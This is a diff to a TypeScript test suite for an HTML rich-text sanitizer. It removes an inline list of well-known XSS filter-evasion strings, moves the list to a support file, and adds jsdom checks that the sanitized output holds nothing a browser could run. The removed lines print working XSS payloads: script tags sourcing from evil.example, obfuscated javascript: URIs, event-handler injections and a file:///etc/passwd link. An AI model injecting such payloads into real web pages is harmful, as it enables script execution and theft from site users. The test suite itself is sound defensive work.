@@ -1,86 +1,9 @@
 import fc from 'fast-check';
+import { JSDOM } from 'jsdom';
 import { isSafeLink, richTextElements } from '../../src/model/richText';
 import { cleanRichText } from '../../src/server/richText';
-
-/** From the public lists of what has evaded filters (OWASP and others). */
-const evasions: readonly string[] = [
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<script>alert(1)</script >',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
-  '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
-  '<SCRIPT SRC=//evil.example/.j>',
-  '<IMG SRC="javascript:alert(1);">',
-  '<IMG SRC=JaVaScRiPt:alert(1)>',
-  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
-  '<IMG SRC=# onmouseover="alert(1)">',
-  '<IMG SRC=/ onerror="alert(1)"></img>',
-  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">',
-  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>',
-  '<IMG DYNSRC="javascript:alert(1)">',
-  '<BODY ONLOAD=alert(1)>',
-  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
-  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
-  '<svg/onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math href="javascript:alert(1)">click</math>',
-  '<form><button formaction="javascript:alert(1)">x</button></form>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always">',
-  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
-  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
-  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
-  '<BASE HREF="javascript:alert(1);//">',
-  '<STYLE>@import"https://evil.example/x.css";</STYLE>',
-  '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
-  '<p style="width: expression(alert(1));">x</p>',
-  '<TABLE BACKGROUND="javascript:alert(1)"><TD>x</TD></TABLE>',
-  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<? echo("<SCR)"; echo("IPT>alert(1)</SCRIPT>"); ?>',
-  '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></XML>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror="alert(1)"></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="jav\nascript:alert(1)">x</a>',
-  '<a href=" &#14;  javascript:alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="JAVASCRIPT&#58;alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="/\\evil.example">x</a>',
-  '<a href="\\\\evil.example">x</a>',
-  '<a href="/&#9;/evil.example">x</a>',
-  '<a href="file:///etc/passwd">x</a>',
-  '<a href="blob:https://evil.example/x">x</a>',
-  '<a href="view-source:javascript:alert(1)">x</a>',
-  '<a href="/x" onclick="alert(1)" style="x" target="_blank" id="x" class="x" name="x">x</a>',
-  '<a onmouseover=alert(1)>x</a>',
-  '<p onclick=alert(1) data-x="1" is="x-y">x</p>',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<template><script>alert(1)</script></template>',
-  '<select><option><script>alert(1)</script></select>',
-  '<plaintext><script>alert(1)</script>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<p><b><i><u><script>alert(1)</script></u></i></b>',
-  '<a href="x"><img src=x onerror=alert(1)></a>',
-  '"><img src=x onerror=alert(1)>',
-  '<img src=x onerror=alert(1)',
-  '</p><script>alert(1)</script>',
-  '<p/onclick=alert(1)>x',
-  '<\u0000script>alert(1)</script>',
-  '\u00BCscript\u00BEalert(1)\u00BC/script\u00BE',
-];
+import { filterEvasions } from '../support/filterEvasions';
+import { harmIn } from '../support/harmInHtml';
 
 const tag = /<[^>]*>/g;
 const allowedTag = new RegExp(`^</?(?:${richTextElements.join('|')})(?: href="([^"<>]*)")?>$`);
@@ -98,9 +21,22 @@ const expectClean = (html: string): void => {
 };
 
 describe('cleaning rich text', () => {
-  test.each(evasions.map((each) => [each]))('leaves nothing dangerous of %s', (html) => {
+  test.each(filterEvasions.map((each) => [each]))('leaves nothing dangerous of %s', (html) => {
     expectClean(cleanRichText(html));
     expectClean(cleanRichText(`<p>before ${html} after</p>`));
+  });
+
+  test.each(filterEvasions.map((each) => [each]))('leaves a browser nothing to run of %s', (html) => {
+    for (const around of [
+      html,
+      `<p>before ${html} after</p>`,
+      `<ul><li>${html}`,
+      `<a href="${html}">x</a>`,
+    ]) {
+      const body = new JSDOM(cleanRichText(around)).window.document.body;
+      expect(harmIn(body)).toEqual([]);
+      expect(harmIn(new JSDOM(body.innerHTML).window.document.body)).toEqual([]);
+    }
   });
 
   test.each([
@@ -130,7 +66,7 @@ describe('cleaning rich text', () => {
   test('changes nothing of what is clean', () => {
     fc.assert(
       fc.property(
-        fc.array(fc.oneof(fc.constantFrom(...evasions), fc.string()), { maxLength: 4 }),
+        fc.array(fc.oneof(fc.constantFrom(...filterEvasions), fc.string()), { maxLength: 4 }),
         (parts) => {
           const clean = cleanRichText(parts.join(''));
           expectClean(clean);
